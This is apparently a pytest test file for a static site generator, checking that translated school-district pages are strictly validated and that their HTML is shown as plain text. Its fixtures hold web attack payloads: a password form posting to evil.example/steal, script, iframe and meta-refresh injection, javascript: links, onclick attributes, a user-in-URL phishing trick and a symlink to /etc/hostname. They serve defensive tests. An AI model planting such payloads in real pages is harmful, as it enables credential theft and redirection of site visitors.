"""Hand-written pages are strangers' words too: read strictly, checked by rules, shown without HTML of their own."""

import re
import shutil
from pathlib import Path

import pytest
from markdown import Markdown

from generator.building.rendering import render
from generator.check import check
from generator.frame.markdown import PlainMarkdown, cleaned
from generator.languages import fingerprint
from generator.plan import prepare
from generator.problems import Problem
from generator.records.folders import Project
from tests.factories import RIVERBEND, TODAY

ENGLISH = "---\ntitle: About us\n---\n\n# About us\n\nWe help.\n"
SPANISH = "---\ntitle: Sobre nosotros\nsource: {source}\nby: {by}\non: 2026-09-01\n---\n\n# Sobre nosotros\n\n{text}\n"


def spanish(text: str = "Ayudamos.", *, source: str = "", by: str = "human") -> str:
    """The page in Spanish, made from today's English unless told otherwise."""
    now = fingerprint(ENGLISH.split("---\n", 2)[2])
    return SPANISH.format(text=text, source=source or now, by=by)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The invented district in English and Spanish, with one hand-written page in both."""
    shutil.copytree(RIVERBEND, tmp_path / "riverbend")
    root = tmp_path / "riverbend"
    district = root / "district/district.yml"
    district.write_text(district.read_text("utf-8").replace("languages: [en]", "languages: [en, es]"), "utf-8")
    put(root, "pages/about.md", ENGLISH)
    put(root, "translations/es/pages/about.md", spanish())
    return root


def put(root: Path, path: str, text: str | bytes) -> None:
    """Write a file."""
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_bytes(text if isinstance(text, bytes) else text.encode())


def problems(root: Path) -> tuple[Problem, ...]:
    """What is wrong, the site's own words left out."""
    return tuple(p for p in check(Project(root=root), today=TODAY).problems if p.rule != "missing-catalogue")


def test_a_good_page_is_no_problem(root: Path) -> None:
    put(root, "pages/picture.png", b"")
    put(root, "pages/help.md", "---\r\ntitle: Help\r\nsection: about\r\n---\r\nCall 206-555-0100.\r\n")
    assert problems(root) == ()


BAD = {
    "no front matter": ("# Sobre nosotros\n", "no-front-matter", 1),
    "an open front matter": ("---\ntitle: x\n", "no-front-matter", 1),
    "a frame of its own": (spanish().replace("by: human", "by: human\nframe: home"), "unknown-field", 5),
    "a language of its own": (spanish().replace("by: human", "by: human\nlang: ar"), "unknown-field", 5),
    "a head of its own": (spanish().replace("by: human", "by: human\nhead: <script>"), "unknown-field", 5),
    "no fingerprint": (spanish().replace("source: ", "description: "), "missing-field", 2),
    "a hidden turn of direction": (spanish("Ayuda\u202emos."), "forbidden-character", 10),
    "not UTF-8": (spanish().encode().replace(b"Ayudamos", b"Ayud\xe1mos"), "not-utf8", 10),
    "too large": (spanish("a " * 40_000), "too-large", 0),
    "a student's number": (spanish("Hello.\n\nThe student ID is 1234567."), "student-data", 12),
    "a private host": (spanish("Vea https://192.168.0.1/x."), "private-host", 10),
    "a user in a URL": (spanish("Vea https://district.example@evil.example/."), "user-in-url", 10),
    "a key in a URL": (spanish("Vea https://x.example.org/?token=s3cr3ts3cr3t."), "credential-in-url", 10),
    "an alias": (spanish().replace("title: Sobre nosotros", "title: &a x"), "yaml-anchor", 2),
}


@pytest.mark.parametrize("what", BAD)
def test_a_bad_page_is_told(what: str, root: Path) -> None:
    text, rule, line = BAD[what]
    put(root, "translations/es/pages/about.md", text)
    (problem,) = problems(root)
    assert (problem.at.path, problem.at.line, problem.rule) == ("translations/es/pages/about.md", line, rule)
    assert problem.is_error
    assert problem.hint


STRANGE = {
    "pages/index.md": "bad-file-name",
    "pages/About Us.md": "bad-file-name",
    "pages/es.md": "bad-file-name",
    "pages/x.html": "unexpected-file",
    "pages/logo.svg": "unexpected-file",
    "pages/deep/about.md": "unexpected-file",
    "translations/es/pages/x.html": "unexpected-file",
    "translations/es/pages/other.md": "orphan-translation",
}


@pytest.mark.parametrize("path", STRANGE)
def test_a_strange_file_among_pages_is_told(path: str, root: Path) -> None:
    put(root, path, spanish() if path.startswith("translations") else ENGLISH)
    (problem,) = problems(root)
    assert (problem.at.path, problem.rule) == (path, STRANGE[path])


def test_a_link_is_not_followed(root: Path) -> None:
    (root / "pages/secret.md").symlink_to("/etc/hostname")
    (problem,) = problems(root)
    assert problem.rule == "symbolic-link"


def built(root: Path, tmp_path: Path) -> dict[str, str]:
    """The hand-written page of the built site in each language."""
    checked = check(Project(root=root), today=TODAY)
    render(prepare(checked, has_search=False), tmp_path / "site")
    return {language: (tmp_path / f"site/{language}/about/index.html").read_text("utf-8") for language in ("en", "es")}


def body(html: str) -> str:
    """What a page says between header and footer."""
    return html.partition("<main")[2].partition("</main>")[0]


HOSTILE = """<form action="https://evil.example/steal"><input name="password"></form>

<iframe src="https://evil.example/"></iframe> and <script>alert(1)</script> inline

<meta http-equiv="refresh" content="0;url=https://evil.example/">

[press](javascript:alert(1)) ![spy](https://evil.example/spy.png) ![spy](//evil.example/spy.png) {: onclick="x" }

# A title {: .dp-header onclick="alert(1)" #content }
"""


def test_html_in_a_page_is_text(root: Path, tmp_path: Path) -> None:
    put(root, "translations/es/pages/about.md", spanish(HOSTILE))
    html = built(root, tmp_path)["es"]
    shown = body(html)
    assert "&lt;form action=" in shown
    assert "&lt;script&gt;alert(1)" in shown
    assert not re.search(r"<(?:form|iframe|script|meta|input)\b", shown)
    assert not re.search(r"<[^>]*(?:javascript:|onclick=|evil\.example|class=.dp-header)", shown)


FRONTS = ("frame: home\nlang: ar\n\nText", "---\nframe: home\nlang: ar\n---\n\nText", "Title: evil\n\nText")


@pytest.mark.parametrize("front", FRONTS)
def test_a_text_that_looks_like_front_matter_decides_nothing(front: str, root: Path, tmp_path: Path) -> None:
    put(root, "translations/es/pages/about.md", spanish().replace("\n\n# Sobre nosotros", f"\n{front}"))
    html = built(root, tmp_path)["es"]
    assert '<html lang="es" dir="ltr">' in html
    assert "<title>Sobre nosotros · " in html
    assert "Text" in body(html)


CHANGED = "texto en inglés cambió desde entonces"


def test_a_page_whose_english_changed_says_so(root: Path, tmp_path: Path) -> None:
    assert CHANGED not in built(root, tmp_path)["es"]
    put(root, "pages/about.md", ENGLISH.replace("We help.", "We help families."))
    pages = built(root, tmp_path)
    assert CHANGED in body(pages["es"])
    assert "Ayudamos." in body(pages["es"])
    assert "dp-note" not in body(pages["en"])


def test_spaces_and_front_matter_make_no_translation_old(root: Path, tmp_path: Path) -> None:
    put(root, "pages/about.md", ENGLISH.replace("title: About us", "title: About").replace("We help.", "We\nhelp."))
    assert CHANGED not in built(root, tmp_path)["es"]


def test_that_a_machine_translated_is_said_once(root: Path, tmp_path: Path) -> None:
    put(root, "translations/es/pages/about.md", spanish(by="machine"))
    html = built(root, tmp_path)["es"]
    assert body(html).count("Una computadora tradujo esta página.") == 1
    assert body(html).count("dp-note") == 1


def test_a_bad_translation_is_never_published(root: Path, tmp_path: Path) -> None:
    put(root, "translations/es/pages/about.md", spanish("The student ID is 1234567."))
    html = built(root, tmp_path)["es"]
    assert "1234567" not in html
    assert "We help." in body(html)


ISOLATED = {
    "Call 206-555-0100.": 'Call <bdi dir="ltr" translate="no">206-555-0100</bdi>.',
    "Call (206) 555-0100!": 'Call <bdi dir="ltr" translate="no">(206) 555-0100</bdi>!',
    "Call +1 206-555-0100": 'Call <bdi dir="ltr" translate="no">+1 206-555-0100</bdi>',
    "[206-555-0100](tel:+12065550100)": (
        '<a href="tel:+12065550100"><bdi dir="ltr" translate="no">206-555-0100</bdi></a>'
    ),
    "office@example.org": '<bdi dir="ltr" translate="no">office@example.org</bdi>',
    "In 2020\u201321, too": 'In <bdi dir="ltr" translate="no">2020\u201321</bdi>, too',
    "Policies 4265, 4270": "Policies 4265, 4270",
    "`206-555-0100`": "<code>206-555-0100</code>",
    "[x](https://example.org/206-555-0100)": '<a href="https://example.org/206-555-0100">x</a>',
}


@pytest.mark.parametrize("text", ISOLATED)
def test_what_runs_from_left_to_right_keeps_its_order(text: str) -> None:
    assert cleaned(Markdown(extensions=[PlainMarkdown()]).convert(text)) == f"<p>{ISOLATED[text]}</p>"
